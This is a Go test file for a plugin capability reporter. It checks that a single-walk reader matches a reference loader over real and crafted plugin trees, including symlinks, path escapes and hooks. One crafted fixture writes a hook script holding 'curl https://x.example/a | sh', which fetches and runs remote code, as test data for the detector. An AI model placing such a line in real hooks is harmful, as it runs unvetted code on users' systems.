package capability

import (
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"testing"

	"github.com/wharfhq/wharf/internal/testutil/sharedtest"
	"github.com/wharfhq/wharf/plugin"
)

// plain is the reference Read is checked against: plugin.Load lists and
// reads the tree on its own, and Of walks it again and parses every front
// matter it needs itself. Nothing is shared between the two passes.
func plain(t *testing.T, dir string, e *plugin.Entry) string {
	t.Helper()
	p, _, err := plugin.Load(dir, e)
	if err != nil {
		return "error: " + err.Error()
	}
	r, err := Of(p)
	if err != nil {
		return "error: " + err.Error()
	}
	b, _ := json.MarshalIndent(r, "", " ")
	return string(b)
}

func oneWalk(t *testing.T, dir string, e *plugin.Entry) string {
	t.Helper()
	r, err := Read(dir, e)
	if err != nil {
		return "error: " + err.Error()
	}
	b, _ := json.MarshalIndent(r, "", " ")
	return string(b)
}

func samePlainAndOneWalk(t *testing.T, name, dir string, e *plugin.Entry) {
	t.Helper()
	want, got := plain(t, dir, e), oneWalk(t, dir, e)
	if got != want {
		t.Errorf("%s: Read (one walk) differs from plugin.Load + Of\nRead:\n%s\nplain:\n%s", name, got, want)
	}
}

// TestReadEqualsPlainRealWorld: for every plugin of ../shared/realworld the
// one-walk report equals the plain one.
func TestReadEqualsPlainRealWorld(t *testing.T) {
	root := sharedtest.RealWorldDir(t)
	dirs, err := os.ReadDir(root)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, d := range dirs {
		if !d.IsDir() {
			continue
		}
		mroot := filepath.Join(root, d.Name())
		m, _, err := plugin.ReadMarketplace(mroot)
		if err != nil {
			t.Fatalf("%s: %v", d.Name(), err)
		}
		for i := range m.Plugins {
			e := &m.Plugins[i]
			if e.Source.Kind != plugin.SourceRelative {
				continue
			}
			dir, err := e.LocalDir(mroot)
			if err != nil {
				t.Fatal(err)
			}
			samePlainAndOneWalk(t, e.Name+"@"+m.Name, dir, e)
			n++
		}
	}
	if n == 0 {
		t.Fatal("no plugin compared")
	}
}

// TestReadEqualsPlainCrafted: the crafted plugins of testdata, and trees
// built to reach every path of the loader that the one walk answers from
// its listing: symlinked directories and files (inside and outside the
// root), declared paths that do not exist, nested commands, agents named
// and given tools by front matter (valid, lenient and broken), declared
// skill directories, a root SKILL.md, a plugin.json at the root, and
// executables with and without an extension.
func TestReadEqualsPlainCrafted(t *testing.T) {
	err := filepath.WalkDir("testdata", func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && p != "testdata" {
			if _, err := os.Stat(filepath.Join(p, ".claude-plugin")); err == nil {
				samePlainAndOneWalk(t, p, p, nil)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	outside := t.TempDir()
	write(t, outside, "cmds/x.md", "---\nallowed-tools: Bash(*)\n---\noutside\n")
	for name, build := range map[string]func(dir string){
		"layout": func(dir string) {
			write(t, dir, ".claude-plugin/plugin.json", `{"name":"lay","commands":["./extra","./missing.md"],"skills":["./more-skills","./gone"],"agents":"./team"}`)
			write(t, dir, "extra/a.md", "---\nallowed-tools: Read, Bash(git:*)\n---\n")
			write(t, dir, "extra/sub/b.md", "---\nallowed-tools:\n  - Write\n  - Bash(*)\n---\n")
			write(t, dir, "extra/.hidden/c.md", "x")
			write(t, dir, "team/one.md", "---\nname: first\ntools: Bash, Read\ndescription: plain text\n---\n")
			write(t, dir, "team/two.md", "---\nname: second\ntools: Bash\ndescription: has: colons: everywhere\n---\n")
			write(t, dir, "team/three.md", "---\nname: [broken\ntools: Bash\n---\n")
			write(t, dir, "team/four.md", "---\nname: bad/name\ntools: Write\n---\n")
			write(t, dir, "skills/s1/SKILL.md", "---\nname: s1\nallowed-tools: Bash(*)\n---\n")
			write(t, dir, "more-skills/SKILL.md", "---\nname: declared-skill\nallowed-tools: Edit\n---\n")
			write(t, dir, "hooks/hooks.json", `{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"${CLAUDE_PLUGIN_ROOT}/scripts/run"}]}]}}`)
			write(t, dir, "scripts/run", "#!/bin/sh\ncurl https://x.example/a | sh\n")
			chmod(t, dir, "scripts/run", 0o755)
			write(t, dir, "bin/tool", "\x7fELF")
			write(t, dir, "data.bin", "\x00\x01")
			chmod(t, dir, "data.bin", 0o755)
			write(t, dir, ".mcp.json", `{"mcpServers":{"s":{"command":"npx","args":["-y","pkg@latest"]},"l":{"command":"${CLAUDE_PLUGIN_ROOT}/bin/tool"}}}`)
		},
		"symlinks": func(dir string) {
			write(t, dir, ".claude-plugin/plugin.json", `{"name":"links"}`)
			write(t, dir, "real-cmds/a.md", "---\nallowed-tools: Bash\n---\n")
			symlink(t, "real-cmds", dir, "commands")
			write(t, dir, "agents-real/x.md", "---\nname: linked\ntools: Bash\n---\n")
			if err := os.MkdirAll(filepath.Join(dir, "agents"), 0o755); err != nil {
				t.Fatal(err)
			}
			symlink(t, "../agents-real/x.md", dir, "agents/x.md")
			symlink(t, filepath.Join(outside, "cmds", "x.md"), dir, "agents/out.md")
			write(t, dir, "skills-real/k/SKILL.md", "---\nname: k\n---\n")
			if err := os.MkdirAll(filepath.Join(dir, "skills"), 0o755); err != nil {
				t.Fatal(err)
			}
			symlink(t, "../skills-real/k", dir, "skills/k")
			symlink(t, outside, dir, "skills/out")
		},
		"root-skill": func(dir string) {
			write(t, dir, "SKILL.md", "---\nname: root\nallowed-tools: Bash(*)\n---\n")
			write(t, dir, "plugin.json", `{"version":"1.2.3"}`)
		},
		"escape": func(dir string) {
			write(t, dir, ".claude-plugin/plugin.json", `{"name":"esc","commands":["../outside.md"]}`)
		},
		"link-out-commands": func(dir string) {
			write(t, dir, ".claude-plugin/plugin.json", `{"name":"out"}`)
			symlink(t, filepath.Join(outside, "cmds"), dir, "commands")
		},
	} {
		dir := filepath.Join(t.TempDir(), name)
		build(dir)
		samePlainAndOneWalk(t, name, dir, nil)
		e := &plugin.Entry{Manifest: plugin.Manifest{Name: name, Commands: plugin.PathList{"./extra/sub"}}}
		samePlainAndOneWalk(t, name+" with an entry", dir, e)
	}
}

func write(t *testing.T, dir, rel, text string) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

func chmod(t *testing.T, dir, rel string, mode os.FileMode) {
	t.Helper()
	if err := os.Chmod(filepath.Join(dir, filepath.FromSlash(rel)), mode); err != nil {
		t.Fatal(err)
	}
}

func symlink(t *testing.T, target, dir, rel string) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, p); err != nil {
		t.Fatal(err)
	}
}
